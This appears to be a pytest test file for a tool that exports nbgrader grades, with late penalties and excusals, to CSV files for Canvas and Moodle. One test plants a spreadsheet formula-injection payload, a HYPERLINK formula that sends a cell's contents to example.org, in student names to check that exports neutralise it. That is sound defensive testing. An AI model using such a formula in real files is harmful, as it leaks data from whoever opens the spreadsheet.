"""Grades in files for other programs: complete, late penalty and all, and harmless."""

import csv
import datetime

import pytest
import tiny
from nbgrader.plugins import CsvExportPlugin
from traitlets.config import Config
from typer.testing import CliRunner

from autograde.cli.app import app
from autograde.cli.results import Format
from autograde.course.course import CourseError
from autograde.course.csv_files import harmless
from autograde.course.requests import Kind, State, add
from autograde.nbgrader_plugins.late_penalty import LatePenalty
from autograde.reports.lms_export import LAYOUTS, export

DUE = datetime.datetime(2030, 1, 31, 23, 59)
HOUR = 3600.0
SPREADSHEETS = [Format.CANVAS, Format.MOODLE]


def rows(file):
    with file.open(encoding="utf-8-sig", newline="") as lines:
        return list(csv.DictReader(lines))


def row_of(file, column, student):
    return next(row for row in rows(file) if row[column] == student)


@pytest.fixture
def graded(course):
    """ada has all points and was late, zoe waits for a person, dan handed in nothing."""
    with course.gradebook() as gradebook:
        gradebook.update_or_create_assignment(tiny.NAME, duedate=DUE)
        named = {"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.org"}
        gradebook.add_student("ada", lms_user_id="4711", **named)
        gradebook.add_student("zoe", first_name="Zoë")
        gradebook.add_student("dan")
        for student, manual in (("ada", 3.25), ("zoe", None)):
            submission = gradebook.add_submission(tiny.NAME, student)
            submission.timestamp = DUE + datetime.timedelta(hours=2)
            (notebook,) = submission.notebooks
            for grade in notebook.grades:
                by_hand = grade.name == "words"
                grade.auto_score = None if by_hand else grade.max_score
                grade.manual_score = manual if by_hand else None
                grade.needs_manual_grade = by_hand and manual is None
            notebook.late_submission_penalty = 1.5 if student == "ada" else None
        gradebook.db.commit()
    return course


def test_nbgrader_s_format_holds_what_nbgrader_itself_exports(graded, tmp_path):
    export(graded, Format.NBGRADER, tmp_path / "ours.csv")
    with graded.gradebook() as gradebook:
        CsvExportPlugin(to=str(tmp_path / "theirs.csv")).export(gradebook)
    assert rows(tmp_path / "ours.csv") == rows(tmp_path / "theirs.csv")


@pytest.mark.parametrize(
    ("to", "who", "points"),
    [
        (Format.NBGRADER, "student_id", "score"),
        (Format.CANVAS, "SIS Login ID", tiny.NAME),
        (Format.MOODLE, "Username", tiny.NAME),
    ],
)
def test_every_format_takes_the_late_penalty_from_the_points(graded, tmp_path, to, who, points):
    file = tmp_path / "grades.csv"
    written = export(graded, to, file)
    assert float(row_of(file, who, "ada")[points]) == 6 + 3.25 - 1.5
    assert float(row_of(file, who, "zoe")[points]) == 6
    assert (written.students, written.waiting) == (3, 1)


def test_a_penalty_larger_than_the_points_leaves_none(graded, tmp_path):
    with graded.gradebook() as gradebook:
        (notebook,) = gradebook.find_submission(tiny.NAME, "zoe").notebooks
        notebook.late_submission_penalty = 50
        gradebook.db.commit()
    export(graded, Format.MOODLE, tmp_path / "grades.csv")
    assert float(row_of(tmp_path / "grades.csv", "Username", "zoe")[tiny.NAME]) == 0


def test_canvas_finds_the_headings_that_it_asks_for(graded, tmp_path):
    export(graded, Format.CANVAS, tmp_path / "grades.csv")
    text = (tmp_path / "grades.csv").read_text(encoding="utf-8-sig").splitlines()
    assert text[0] == "Student,ID,SIS User ID,SIS Login ID,Section,tiny"
    assert text[1] == "    Points Possible,,,,,10.0"
    assert '"Lovelace, Ada",4711,,ada,,7.75' in text[2:]


def test_moodle_is_given_a_column_for_each_way_to_find_a_student(graded, tmp_path):
    export(graded, Format.MOODLE, tmp_path / "grades.csv")
    ada = row_of(tmp_path / "grades.csv", "Username", "ada")
    assert (ada["ID number"], ada["Email address"]) == ("4711", "ada@example.org")


@pytest.mark.parametrize(
    ("to", "who", "nothing"),
    [(Format.CANVAS, "SIS Login ID", ""), (Format.MOODLE, "Username", "-")],
)
def test_who_handed_in_nothing_has_no_grade_and_not_zero(graded, tmp_path, to, who, nothing):
    export(graded, to, tmp_path / "grades.csv")
    assert row_of(tmp_path / "grades.csv", who, "dan")[tiny.NAME] == nothing


@pytest.mark.parametrize("to", SPREADSHEETS)
def test_excel_is_told_that_it_is_utf_8(graded, tmp_path, to):
    export(graded, to, tmp_path / "grades.csv")
    content = (tmp_path / "grades.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    assert "Zoë".encode() in content


def test_programs_that_read_nbgrader_s_format_find_its_first_heading(graded, tmp_path):
    export(graded, Format.NBGRADER, tmp_path / "grades.csv")
    assert (tmp_path / "grades.csv").read_bytes().startswith(b"assignment,")


@pytest.mark.parametrize("to", Format)
@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r"])
def test_no_name_is_a_formula_in_any_format(graded, tmp_path, to, begins):
    formula = f'{begins}HYPERLINK("http://example.org?"&A1)'
    with graded.gradebook() as gradebook:
        gradebook.update_or_create_student("ada", first_name=formula, last_name=formula)
        gradebook.add_student(begins + "1+1")
        gradebook.db.commit()
    export(graded, to, tmp_path / "grades.csv")
    cells = [cell for row in rows(tmp_path / "grades.csv") for cell in row.values()]
    assert sum(begins + "1+1" in cell for cell in cells) >= 1
    assert not any(cell.startswith(begins) and cell != "-" for cell in cells)


def test_a_negative_number_stays_a_number():
    assert harmless(-1.5) == -1.5


def test_only_the_assignments_that_are_named_are_exported(graded, tmp_path):
    with graded.gradebook() as gradebook:
        gradebook.add_assignment("later")
    export(graded, Format.MOODLE, tmp_path / "all.csv")
    export(graded, Format.MOODLE, tmp_path / "one.csv", [tiny.NAME])
    assert {"later", tiny.NAME} <= rows(tmp_path / "all.csv")[0].keys()
    assert "later" not in rows(tmp_path / "one.csv")[0]


def test_a_mistyped_assignment_is_answered_with_the_nearest(graded, tmp_path):
    with pytest.raises(CourseError, match=r"holds no tyni\. Did you mean tiny\?"):
        export(graded, Format.CANVAS, tmp_path / "grades.csv", ["tyni"])


def test_the_command_says_what_it_wrote_and_who_waits(graded, tmp_path):
    file = tmp_path / "grades.csv"
    arguments = ["export", str(file), "--to", "canvas", "--course", str(graded.root)]
    said = CliRunner().invoke(app, arguments)
    assert said.exit_code == 0
    assert rows(file)
    assert "1 submission waits for a person" in " ".join(said.stdout.split())


def test_a_file_that_cannot_be_written_is_said_in_a_sentence(graded, tmp_path):
    file = tmp_path / "nowhere" / "grades.csv"
    said = CliRunner().invoke(app, ["export", str(file), "--course", str(graded.root)])
    assert said.exit_code == 2
    assert said.stderr.strip().endswith("cannot be written: No such file or directory.")


def test_late_work_costs_nothing_unless_configured():
    assert LatePenalty().late_submission_penalty("ada", 80.0, 1000 * HOUR) == 0


@pytest.mark.parametrize(
    ("hours", "penalty"),
    [(0.25, 0), (0.26, 8), (24.25, 8), (24.26, 16), (5 * 24, 40), (1000, 40)],
)
def test_each_day_begun_after_the_grace_costs_its_per_cent_up_to_the_most(hours, penalty):
    late = LatePenalty(grace_minutes=15, percent_a_day=10, most_percent=50)
    assert late.late_submission_penalty("ada", 80.0, hours * HOUR) == pytest.approx(penalty)


def test_nbgrader_takes_the_plugin_from_the_configuration(graded):
    from nbgrader.preprocessors import AssignLatePenalties

    config = Config()
    config.AssignLatePenalties.plugin_class = "autograde.nbgrader_plugins.late_penalty.LatePenalty"
    config.LatePenalty.percent_a_day = 10
    about = {"notebook": tiny.NAME, "assignment": tiny.NAME, "student": "zoe"}
    about["db_url"] = graded.directory.db_url
    step = AssignLatePenalties(config=config)
    step.preprocess(tiny.released(graded), {"nbgrader": about})
    with graded.gradebook() as gradebook:
        submission = gradebook.find_submission(tiny.NAME, "zoe")
        assert submission.late_submission_penalty == pytest.approx(0.6)


def test_the_command_offers_every_layout_there_is():
    assert set(Format) == LAYOUTS.keys()


@pytest.mark.parametrize(
    ("to", "who", "column", "nothing"),
    [
        (Format.NBGRADER, "student_id", "score", ""),
        (Format.CANVAS, "SIS Login ID", tiny.NAME, "EX"),
        (Format.MOODLE, "Username", tiny.NAME, "-"),
    ],
)
def test_who_is_excused_has_no_grade_and_who_handed_in_all_the_same_has_one(
    graded, tmp_path, to, who, column, nothing
):
    for student in ("dan", "zoe"):
        add(graded, student, tiny.NAME, Kind.EXCUSE, State.GRANTED)
    export(graded, to, tmp_path / "grades.csv")
    assert row_of(tmp_path / "grades.csv", who, "dan")[column] == nothing
    assert float(row_of(tmp_path / "grades.csv", who, "zoe")[column]) == 6


def test_canvas_is_given_the_sections_of_the_class_list(graded, tmp_path):
    (graded.classroom / "sections.json").write_text('{"ada": "Monday"}', encoding="utf-8")
    export(graded, Format.CANVAS, tmp_path / "grades.csv")
    assert row_of(tmp_path / "grades.csv", "SIS Login ID", "ada")["Section"] == "Monday"
